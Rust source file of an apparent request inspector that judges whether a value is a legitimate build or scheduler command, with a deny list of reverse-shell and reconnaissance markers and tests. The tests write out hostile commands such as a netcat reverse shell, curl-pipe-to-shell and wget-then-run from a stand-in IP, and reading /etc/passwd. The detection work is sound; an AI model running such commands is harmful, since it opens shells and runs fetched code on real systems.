//! Where a command is meant to be: what APIs of builds, containers and schedules take.

use super::Part;
use crate::decode::Value;
use memchr::memmem;
use std::net::Ipv4Addr;

/// Names under which APIs of builds, containers and schedules take commands.
const TAKING: [&[u8]; 20] = [
    b"args",
    b"command",
    b"commands",
    b"cron",
    b"crontab",
    b"dockerfile",
    b"entrypoint",
    b"healthcheck",
    b"install",
    b"lifecycle",
    b"makefile",
    b"run",
    b"runcmd",
    b"script",
    b"scripts",
    b"shell",
    b"startup_script",
    b"tasks",
    b"user_data",
    b"userdata",
];

/// What no build asks for: who and where it is, and a way back in.
const SPYING: [&[u8]; 14] = [
    b"whoami",
    b"passwd",
    b"/etc/shadow",
    b"uname -a",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"/dev/tcp",
    b"/dev/udp",
    b"bash -i",
    b"nc -",
    b"ncat ",
    b"nslookup",
    b"mkfifo",
];

/// Tells a value that is a command where it is meant to be: JSON under such a name, a script in a document
/// with a first line that names who reads it, a shell's own path.
pub fn takes_commands(value: &Value<'_>) -> bool {
    let text = value.bytes.trim_ascii();
    if matches!(
        value.part,
        Part::Query | Part::Path | Part::Header | Part::Cookie
    ) {
        return false;
    }
    let json = value.part == Part::Json;
    let script = || {
        let line = text.split(|b| *b == b'\n').next().unwrap_or_default();
        let reader = line.strip_prefix(b"#!").unwrap_or_default();
        let reader = reader.trim_ascii();
        let path = reader.split(|b| *b == b' ').next().unwrap_or_default();
        let part =
            |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'-' | b'_' | b' ');
        let document = matches!(value.part, Part::Json | Part::Body | Part::File);
        let program = path.rsplit(|b| *b == b'/').next().unwrap_or_default();
        document
            && path.starts_with(b"/")
            && memmem::find(path, b"bin/").is_some()
            && !program.is_empty()
            && reader.iter().all(part)
    };
    let named = || {
        // Of a document within one its own names say something where it is a manifest, as registries take it.
        let path = if value.inner.is_empty() {
            value.name
        } else if is_manifest(value.name) {
            value.inner
        } else {
            return false;
        };
        let mut names = path.rsplit(|b| *b == b'.');
        let (last, parent) = (names.next(), names.next());
        let known = |name: &[u8]| TAKING.iter().any(|t| name.eq_ignore_ascii_case(t));
        let step = parent == Some(b"steps") && matches!(last, Some(b"name" | b"run"));
        json && (step || last.is_some_and(known) || parent.is_some_and(known))
    };
    let shell = || {
        let path = text.strip_prefix(b"/usr").unwrap_or(text);
        let path = path.strip_prefix(b"/local").unwrap_or(path);
        let folder = path.strip_prefix(b"/bin/").or(path.strip_prefix(b"/sbin/"));
        let name = folder.unwrap_or_default();
        json && !name.is_empty() && name.iter().all(u8::is_ascii_alphanumeric)
    };
    // What starts with a separator goes on with what stands before it.
    let breaks_out = matches!(text, [b';' | b'|' | b'&', ..]);
    let meant = !breaks_out && (script() || shell() || named());
    meant && !spies(text) && !(runs_what_it_fetches(text) && fetches_by_number(text))
}

/// Tells the name of a document that is a manifest.
fn is_manifest(name: &[u8]) -> bool {
    let last = name.rsplit(|b| *b == b'.').next().unwrap_or_default();
    matches!(last, b"manifest" | b"package" | b"config")
}

/// Tells a text that keeps what it fetches, or hands it on.
fn runs_what_it_fetches(text: &[u8]) -> bool {
    const KEEPING: [&[u8]; 5] = [b"|", b"wget", b" -o", b" -O", b"chmod"];
    KEEPING
        .iter()
        .any(|word| memmem::find(text, word).is_some())
}

/// Tells a machine of the internet by its number, in a link or as a fetching program is given it without a
/// scheme: what builds fetch has a name, or stands within their own network.
fn fetches_by_number(text: &[u8]) -> bool {
    let linked = || memmem::find_iter(text, b"://").any(|at| is_public(&text[at + 3..]));
    let separates = |b: &u8| matches!(b, b';' | b'|' | b'&' | b'\n');
    let fetches = |command: &[u8]| {
        let mut words = command.split(u8::is_ascii_whitespace);
        words.any(|word| matches!(word.rsplit(|b| *b == b'/').next(), Some(b"curl" | b"wget")))
            && words.any(is_public)
    };
    linked() || text.split(separates).any(fetches)
}

/// Tells an address of the internet at the start of a text.
fn is_public(text: &[u8]) -> bool {
    let part = |b: &&u8| b.is_ascii_digit() || **b == b'.';
    let host = &text[..text.iter().take_while(part).count()];
    let address = std::str::from_utf8(host).unwrap_or_default().parse();
    address.is_ok_and(|address: Ipv4Addr| {
        // Those that carriers and clouds share, 100.64.0.0/10. Source: RFC 6598.
        let [first, second, ..] = address.octets();
        let is_shared = first == 100 && second & 0xc0 == 64;
        !(is_shared
            || address.is_private()
            || address.is_loopback()
            || address.is_link_local()
            || address.is_unspecified())
    })
}

/// Tells a text that asks who and where a machine is, or for a way back in.
pub fn spies(text: &[u8]) -> bool {
    let begins = |at: usize| at == 0 || !text[at - 1].is_ascii_alphanumeric();
    // Whether somebody listens, `nc -z`, is asked by who waits for a database.
    let asks = |at: usize| text[at..].starts_with(b"nc -z");
    let said = |word: &&[u8]| memmem::find_iter(text, word).any(|at| begins(at) && !asks(at));
    SPYING.iter().any(said)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::testing;

    #[test]
    fn documents_within_documents_have_names_of_their_own() {
        for (part, name, inner, want) in [
            (Part::Json, "package.manifest", "scripts.test", true),
            (Part::Json, "workflow_job.steps.name", "", true),
            (Part::Json, "command", "host", false),
            (Part::Json, "package.manifest", "", false),
            (Part::Json, "host", "run", false),
            (Part::Json, "order.steps.note", "", false),
            (Part::Query, "q", "scripts.test", false),
        ] {
            let value = Value {
                part,
                name: name.as_bytes(),
                inner: inner.as_bytes(),
                ..testing::value(b"echo \"no test\" && exit 1")
            };
            assert_eq!(takes_commands(&value), want, "{name} {inner}");
        }
    }

    #[test]
    fn spying_is_told_from_copying_and_waiting() {
        for (text, want) in [
            ("nc -e /bin/sh 192.0.2.1 80", true),
            ("true;nc -l 80", true),
            ("rsync -avz dist/ www.example.com:/var/www", false),
            ("until nc -z db 5432; do sleep 1; done", false),
            ("cat /etc/passwd", true),
            ("htpasswd -b users a b", false),
        ] {
            assert_eq!(spies(text.as_bytes()), want, "{text}");
        }
    }

    #[test]
    fn what_is_fetched_by_number_is_not_run() {
        for (text, want) in [
            ("curl http://192.0.2.1/m | sh", false),
            ("wget http://192.0.2.1/m; ./m", false),
            ("cd /tmp && wget 192.0.2.1/m -O m && sh m", false),
            ("/usr/bin/curl -s 192.0.2.1:8000/m | sh", false),
            ("; curl http://a.example/m | sh", false),
            ("wget 10.0.0.7/m -O m && tar xf m", true),
            ("curl https://get.a.example | sh", true),
            ("pip install a==1.2.3.4 | tee log", true),
            ("curl --retry 3 http://203.0.113.9:8080/health", true),
            ("curl http://100.64.1.2/a | jq .", true),
        ] {
            let value = Value {
                part: Part::Json,
                name: b"command",
                ..testing::value(text.as_bytes())
            };
            assert_eq!(takes_commands(&value), want, "{text}");
        }
    }
}
